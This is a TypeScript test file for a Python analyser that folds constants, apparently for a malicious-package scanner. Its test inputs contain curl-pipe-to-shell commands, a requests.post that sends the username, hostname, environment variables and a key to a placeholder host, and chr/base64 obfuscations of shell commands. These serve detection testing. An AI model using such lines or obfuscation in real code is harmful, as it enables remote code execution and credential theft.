import { beforeAll, describe, expect, it } from 'vitest';
import type { FileFacts, ValueFact } from '../../../src/model/index.js';
import type { PythonAnalyzer } from '../../../src/detectors/python/parser.js';
import { pythonAnalyzer } from '../../support/python-analyzer.js';

let analyzer: PythonAnalyzer;
beforeAll(async () => {
  analyzer = await pythonAnalyzer();
});

const analyze = (source: string): FileFacts => analyzer.analyze('setup.py', source);

/** The folded first argument of each `sink(...)` call, in order. */
function sunk(lines: string[]): Array<string | undefined> {
  const f = analyze(['import base64, binascii, codecs, zlib, os, socket, getpass', ...lines].join('\n'));
  return f.calls.filter((c) => c.callee === 'sink').map((c) => c.args[0]?.value);
}

describe('python analyser: constant folding', () => {
  it('folds literals of every prefix, implicit concatenation and +', () => {
    expect(
      sunk([
        "sink(r'C:\\temp\\x')",
        "sink(b'\\x41\\x42' + b'C')",
        "sink(u'caf\\u00e9')",
        "sink(f'plain {{braces}}')",
        "sink(f'{os.name}')",
        "sink('ht' 'tp://' \"example.invalid\")",
        "sink(('a' + 'b') * 2)",
        "sink('''multi\nline''')",
      ]),
    ).toEqual(['C:\\temp\\x', 'ABC', 'café', 'plain {braces}', undefined, 'http://example.invalid', 'abab', 'multi\nline']);
  });

  it('folds an f-string whose fields all fold, and not one with a conversion, a format spec or an unknown field', () => {
    expect(
      sunk([
        "HOST = 'http://h.example.invalid'",
        'PORT = 8080',
        "sink(f'curl -s {HOST}:{PORT}/s | sh')",
        "sink(rf'C:\\x\\{HOST[7:8]}' f\"-{'in' + 'ner'}-{{}}\")",
        "sink(f'''{HOST}/a\\tb''')",
        "sink(f'{base64.b64decode(\"aWQ=\").decode()} x')",
        "sink(f'{HOST!r}')",
        "sink(f'{PORT:>6}')",
        "sink(f'{os.getcwd()}/x')",
        "sink(b'%s' % HOST.encode())",
      ]),
    ).toEqual(['curl -s http://h.example.invalid:8080/s | sh', 'C:\\x\\h-inner-{}', 'http://h.example.invalid/a\tb', 'id x', undefined, undefined, undefined, undefined]);
  });

  it('folds str.format of a literal template only when every field folds', () => {
    expect(
      sunk([
        "HOST = 'http://h.example.invalid'",
        "sink('curl {} | sh'.format(HOST))",
        "sink('{0}/{1}:{0}'.format(HOST, 8080))",
        "sink('{}/{}'.format(HOST, os.getcwd()))",
        "sink('{host}'.format(host=HOST))",
        "sink('{:>9}'.format(HOST))",
      ]),
    ).toEqual(['curl http://h.example.invalid | sh', 'http://h.example.invalid/8080:http://h.example.invalid', undefined, undefined, undefined]);
  });

  it('folds printf-style % formatting of plain %s and %d fields, one folded value per field', () => {
    expect(
      sunk([
        "HOST = 'h.example.invalid'",
        "sink('curl https://%s/x | sh' % HOST)",
        "sink('%s:%d 100%%' % (HOST, 8080))",
        "sink('%s' % [HOST])",
        "sink('%r' % HOST)",
        "sink('%s %s' % (HOST,))",
        "sink('%5s' % HOST)",
        "sink('%s' % os.getcwd())",
      ]),
    ).toEqual(['curl https://h.example.invalid/x | sh', 'h.example.invalid:8080 100%', undefined, undefined, undefined, undefined, undefined]);
  });

  it('folds a repeated string only up to 64 KiB: test data is built that way, payloads are not', () => {
    expect(sunk(["sink('ab' * 3)", "sink(('#' * 5000 + 'aW1wb3J0IG9z')[5000:])", "sink(b'a' * 1024 * 1024)"])).toEqual(['ababab', 'aW1wb3J0IG9z', undefined]);
  });

  it('folds joins of chr tables, slices and numeric arithmetic', () => {
    expect(
      sunk([
        "sink(''.join([chr(99), chr(0x75), chr(114), chr(0o154)]))",
        "sink(''.join(map(chr, [119, 104, 111, 97, 109, 105])))",
        "sink(''.join(chr(x) for x in [105, 100]))",
        "sink(''.join([chr(c ^ 1) for c in [113, 120, 101]]))",
        'sink(chr(0x60 + 3) + chr(10 * 10) + chr((1 << 6) | 37))',
        "sink('metsys'[::-1])",
        "sink('abcdef'[1:4])",
        "sink(''.join(reversed('dwp')))",
        "sink('-'.join(['a', 'b']))",
        "sink('o-s'.replace('-', '.'))",
      ]),
    ).toEqual(['curl', 'whoami', 'id', 'pyd', 'cde', 'system', 'bcd', 'pwd', 'a-b', 'o.s']);
  });

  it('folds the decoders of base64, binascii, codecs, bytes and zlib', () => {
    expect(
      sunk([
        "sink(base64.b64decode('aWQ='))",
        "sink(base64.b64decode('aWQ=').decode())",
        "sink(base64.urlsafe_b64decode('d2hvYW1p'))",
        "sink(base64.b32decode('O5UG6YLNNE======'))",
        "sink(base64.b16decode('6964'))",
        "sink(bytes.fromhex('6c73').decode('utf-8'))",
        "sink(binascii.unhexlify('707764'))",
        "sink(binascii.a2b_base64('dW5hbWU='))",
        "sink(codecs.decode('flfgrz', 'rot13'))",
        "sink(codecs.decode('6964', 'hex'))",
        "sink(codecs.decode(b'aWQ=', 'base64'))",
        "sink(zlib.decompress(base64.b64decode('eJzLrMgFAAKbAU8=')).decode())",
        "sink(bytes([104, 105]).decode())",
        "sink(str(b'uname', 'utf-8'))",
      ]),
    ).toEqual(['id', 'id', 'whoami', 'whoami', 'id', 'ls', 'pwd', 'uname', 'system', 'id', 'id', 'ixm', 'hi', 'uname']);
  });

  it('folds names spelled from the text of builtins, as obfuscators do', () => {
    const f = analyze(
      [
        'import os',
        "CHR = getattr(__builtins__, oct.__str__()[-3 << 0] + hex.__str__()[-1 << 2] + copyright.__str__()[4 << 0])",
        'os.getenv(\'\'.join(map(CHR, [(1 << 6) + 1, (5 << 4), (5 << 4), (((1 << 4) + 1) << 2), 65, 84, 65])))',
        "if os.name == ''.join(map(chr, [112, 111, 115, 105, 120])): pass",
        'sink(chr.__name__, str(len), repr(int))',
      ].join('\n'),
    );
    expect(f.calls.find((c) => c.callee === 'os.getenv')?.args[0]?.value).toBe('APPDATA');
    expect(f.decoded.map((d) => [d.line, d.steps, d.text])).toEqual([
      [3, ['chr'], 'APPDATA'],
      [4, ['chr'], 'posix'],
    ]);
    expect(f.calls.find((c) => c.callee === 'sink')?.args.map((a) => a.value)).toEqual(['chr', '<built-in function len>', "<class 'int'>"]);
  });

  it('folds simple variables, in the same scope or at module level, and += chains', () => {
    expect(
      sunk([
        "HOST = 'example' + '.invalid'",
        "PORT = '4444'",
        "s = ''",
        "s += 'who'",
        "s += 'ami'",
        'sink(HOST)',
        'sink(s)',
        'def f(x):',
        "    HOST = 'shadowed.invalid'",
        "    url = 'https://' + HOST + '/' + PORT",
        '    sink(url)',
        '    sink(x)',
      ]),
    ).toEqual(['example.invalid', 'whoami', 'https://shadowed.invalid/4444', undefined]);
  });

  it('lists resolved names used inside arguments, through variables too', () => {
    const f = analyze(
      [
        'import os, socket, getpass, requests',
        'h = socket.gethostname()',
        "data = {'user': getpass.getuser(), 'host': h, 'env': dict(os.environ)}",
        "requests.post('https://example.invalid/c', json=data, headers={'k': os.getenv('KEY')})",
      ].join('\n'),
    );
    const post = f.calls.find((c) => c.callee === 'requests.post');
    expect(post?.kwargs['json']?.refs).toEqual(expect.arrayContaining(['getpass.getuser', 'socket.gethostname', 'os.environ']));
    expect(post?.kwargs['headers']?.refs).toEqual(['os.getenv']);
    expect(post?.kwargs['json']?.entries?.['host']?.text).toBe('h');
    expect(post?.kwargs['headers']?.entries?.['k']?.refs).toEqual(['os.getenv']);
  });

  it('fills entries and items for setup() keywords, also through variables and dict()', () => {
    const f = analyze(
      [
        'from setuptools import setup',
        'class CustomInstall: pass',
        "cmds = {'install': CustomInstall, 'develop': CustomInstall}",
        'setup(',
        "    name='demo',  # the name",
        '    cmdclass=cmds,',
        "    install_requires=['requests>=2', 'six'],",
        "    entry_points=dict(console_scripts=['demo=demo:main']),",
        "    data_files=[('lib', ['x.pth'])],",
        ')',
      ].join('\n'),
    );
    const setup = f.calls.find((c) => c.callee === 'setuptools.setup');
    const kw = setup?.kwargs ?? {};
    expect(kw['name']?.value).toBe('demo');
    expect(kw['cmdclass']?.entries?.['install']).toMatchObject({ text: 'CustomInstall', refs: ['local.CustomInstall'] });
    expect(Object.keys(kw['cmdclass']?.entries ?? {})).toEqual(['install', 'develop']);
    expect(kw['install_requires']?.items?.map((i: ValueFact) => i.value)).toEqual(['requests>=2', 'six']);
    expect(kw['entry_points']?.entries?.['console_scripts']?.items?.[0]?.value).toBe('demo=demo:main');
    expect(kw['data_files']?.items?.[0]?.items?.[1]?.items?.[0]?.value).toBe('x.pth');
  });

  it('keeps argument text short and leaves unknown values unfolded', () => {
    const f = analyze(['import os', `os.system(x + ${'"a" + '.repeat(60)}"b")`, 'os.system(cmd())'].join('\n'));
    const [first, second] = f.calls.filter((c) => c.callee === 'os.system');
    expect(first?.args[0]?.text.length).toBeLessThanOrEqual(200);
    expect(first?.args[0]?.value).toBeUndefined();
    expect(second?.args[0]).toMatchObject({ text: 'cmd()', refs: [] });
    expect(second?.args[0]?.value).toBeUndefined();
  });
});
